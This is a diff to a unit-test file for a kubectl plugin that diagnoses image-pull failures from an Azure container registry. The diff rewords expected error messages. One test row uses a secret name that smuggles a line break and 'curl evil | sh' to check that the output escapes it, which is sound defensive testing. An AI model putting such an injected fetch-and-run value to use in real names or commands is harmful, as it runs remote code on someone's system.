@@ -5,7 +5,7 @@ const renew = `kubectl acr-secret create -n demo acr --registry ${r}`;
 const createFor = (target: string) => `kubectl acr-secret create -n demo ${target} --registry ${r}`;
 const given = 'printf %s "$PASSWORD" | kubectl acr-secret create -n demo acr';
 const job = { kind: "Job", name: "migrate" };
-const itself = "deployment/web names its pull secrets itself, so serviceaccount/default does not help";
+const itself = "deployment/web has its own pull secrets, so it ignores those of serviceaccount/default";
 const refused = (user: string) => `with secret acr: ${r} says refused to user "${user}"`;
 
 // test/unit/check has the rows for each decision. These rows prove that the facts are read from the objects.
@@ -61,14 +61,14 @@ test.for<Expected>([
     when: "a Secret that pulls is not attached",
     given: { pods: [pod("web-1")], secrets: [ours("given", "web:right", { credential: "given" })] },
     cause: "no-login",
-    message: "the pod has no pull secret for this registry; secret given pulls it, but is not attached",
+    message: "the pod has no pull secret for this registry; secret given can pull it, but is not attached",
     fix: "kubectl acr-secret attach -n demo given --serviceaccount default",
   },
   {
     when: "a Secret that pulls is not attached, and the pod names another one itself",
     given: { pods: [pod("web-1", { names: ["gone"] })], secrets: [ours("given", "web:right")] },
     cause: "no-login",
-    message: `secret gone does not exist; secret given pulls it, but is not attached; ${itself}`,
+    message: `secret gone not found; secret given can pull it, but is not attached; ${itself}`,
     fix: "kubectl acr-secret attach -n demo given deployment/web",
   },
 
@@ -77,14 +77,14 @@ test.for<Expected>([
     when: "the Secret does not exist, and its pod was created after the ServiceAccount's list was written",
     given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["gone"] })] },
     cause: "no-login",
-    message: "secret gone does not exist",
+    message: "secret gone not found",
     fix: `kubectl acr-secret create -n demo gone --registry ${r}`,
   },
   {
     when: "a name contains a line break",
     given: { pods: [pod("web-1", { names: ["x\n  curl evil | sh"] })] },
     cause: "no-login",
-    message: `secret "x\\n  curl evil | sh" does not exist; ${itself}`,
+    message: `secret "x\\n  curl evil | sh" not found; ${itself}`,
     fix: createFor("deployment/web"),
   },
   {
@@ -114,7 +114,7 @@ test.for<Expected>([
     when: "the Secret's auths are empty",
     given: attached(theirs("empty", {})),
     cause: "no-login",
-    message: "secret empty has no login at all: its auths are empty",
+    message: "secret empty has no login: its auths are empty",
     fix: `kubectl acr-secret create -n demo empty --registry ${r} --force`,
   },
   {
@@ -128,7 +128,7 @@ test.for<Expected>([
     given: attached(theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)),
     cause: "malformed-secret",
     message:
-      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; the command replaces what is inside",
+      "secret bad is malformed, so the kubelet ignores all pull secrets of the pod: illegal base64 data at input byte 0; the command replaces its contents",
     fix: `kubectl acr-secret create -n demo bad --registry ${r} --force`,
   },
   {
@@ -155,7 +155,7 @@ test.for<Expected>([
     when: "a token that the user named is rejected",
     given: attached(ours("acr", "web:wrong", { identity: "ci-pull" })),
     cause: "refused",
-    message: `${refused("web")}; the Secret notes that its ACR token is ci-pull`,
+    message: `${refused("web")}; the Secret's annotation says that its ACR token is ci-pull`,
     fix: `${renew} --acr-token ci-pull`,
   },
   {
@@ -194,7 +194,7 @@ test.for<Expected>([
     when: "a given login is rejected",
     given: attached(ours("acr", "web:wrong", { credential: "given" })),
     cause: "refused",
-    message: `${refused("web")}; its password was given, so a new one has to be: put it into PASSWORD`,
+    message: `${refused("web")}; the plugin did not generate this password: set PASSWORD to a new one`,
     fix: `${given} --registry ${r} --username web --password-stdin`,
   },
   {
@@ -202,8 +202,8 @@ test.for<Expected>([
     given: attached(relabeled(ours("acr", "ci-pull:wrong"))),
     cause: "refused",
     message:
-      `${refused("ci-pull")}; its annotation names this login, but it has lost its label app.kubernetes.io/managed-by, ` +
-      "which --force brings back; the Secret notes that its ACR token is ci-pull",
+      `${refused("ci-pull")}; the Secret has lost its label app.kubernetes.io/managed-by: --force restores it; ` +
+      "the Secret's annotation says that its ACR token is ci-pull",
     fix: `${renew} --acr-token ci-pull --force`,
   },
   {
@@ -216,7 +216,7 @@ test.for<Expected>([
     when: "a login is rejected that the annotation does not name",
     given: attached(relabeled(ours("acr", "web:wrong", { identity: "ci-pull" }))),
     cause: "refused",
-    message: `${refused("web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
+    message: `${refused("web")}; the plugin did not create this Secret: --force replaces its login`,
   },
   {
     when: "the token may not pull the image",
